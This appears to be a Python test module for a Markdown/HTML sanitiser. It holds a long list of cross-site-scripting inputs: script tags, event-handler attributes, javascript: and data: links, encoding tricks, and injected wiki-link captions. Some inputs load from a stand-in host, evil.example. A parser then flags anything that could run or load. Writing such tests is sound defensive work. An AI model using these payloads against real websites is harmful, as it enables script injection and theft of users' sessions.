"""Text that tries to become more than text, and a reader of HTML that sees whether it did."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

MARKDOWN = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\x0b=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    '<p style="position:fixed;inset:0">x</p>',
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "</p></div></article><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](intent://evil#Intent;end)",
    "[x](view-source:http://evil.example)",
    "[x]\n\n[x]: javascript:alert(1)",
    '[x](/a "onmouseover=alert(1)")',
    '[x](/a "\\" onmouseover=\\"alert(1)")',
    "[x](/a' onmouseover='alert(1))",
    '[a](http://a.example/?"><script>alert(1)</script>)',
    "[a](http://[::1)",
    "<javascript:alert(1)>",
    '<http://a.example/"onmouseover=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x" onerror="alert(1)](x)',
    '![x](x" onerror="alert(1))',
    "![<script>alert(1)</script>](/x.png)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n| --- | --- |\n| a | b |",
    "> <script>alert(1)</script>\n> — [[person:lux|<img src=x onerror=alert(1)>]], <b>there</b>",
    "# <script>alert(1)</script>",
    "[[person:lux|<script>alert(1)</script>]]",
    '[[person:lux|" onmouseover="alert(1)]]',
    "[[person:nobody|<script>alert(1)</script>]]",
    "[[figure:growth|<script>alert(1)</script>]]",
    "[[figure:growth@2025|</span></p><script>alert(1)</script>]]",
    "[[image:map|<script>alert(1)</script>]]",
    '[[image:map]] [[image:map|"><img src=x onerror=alert(1)>]]',
    "[<script>alert(1)</script> [[person:lux]]](javascript:alert(1))",
    "[^izvestia] [^<script>alert(1)</script>]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\0<script>alert(1)</script>\0",
    "\0" + "0\0 \x000\x00 [[person:lux]] \0" + "1\0",
    "\u2028<script>\u2029alert(1)</script>",
    "\ud83d<script>alert(1)</script>".encode("utf-8", "replace").decode(),
    "﹤script﹥alert(1)﹤/script﹥ ＜script＞alert(1)＜/script＞",
    "<a\x00href=javascript:alert(1)>x</a>",
    "* <script>alert(1)</script>\n  * <script>alert(1)</script>",
    "1. [x](javascript:alert(1))\n2. <script>alert(1)</script>",
]
# What a name, a caption or a title from the database may try.
NAME = '</a></b></span><script>alert(1)</script>" onmouseover="alert(1)'

TAGS = frozenset(
    str.split(
        "a b blockquote br code div em figcaption figure footer h2 h3 h4 h5 h6 hr img li ol p picture pre "
        "source span strong sup svg table tbody td th thead tr ul use"
    )
)
ADDRESSES = frozenset({"href", "src", "srcset", "action", "data", "formaction", "xlink:href"})


class Harm(HTMLParser):
    """Collects whatever could run, load or restyle."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "http-equiv"):
                self.found.append((tag, name))
            if name in ADDRESSES and not is_harmless(value or ""):
                self.found.append((tag, name, value))

    def handle_comment(self, data):
        self.found.append(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def is_harmless(address):
    """As a browser reads it: without the control characters and spaces that hide a scheme."""
    address = "".join(char for char in address if ord(char) > 32)
    try:
        return urlsplit(address).scheme in ("", "http", "https", "mailto")
    except ValueError:
        return address.startswith(("http:", "https:"))


def harm_in(html):
    parser = Harm()
    parser.feed(html)
    parser.close()
    return parser.found
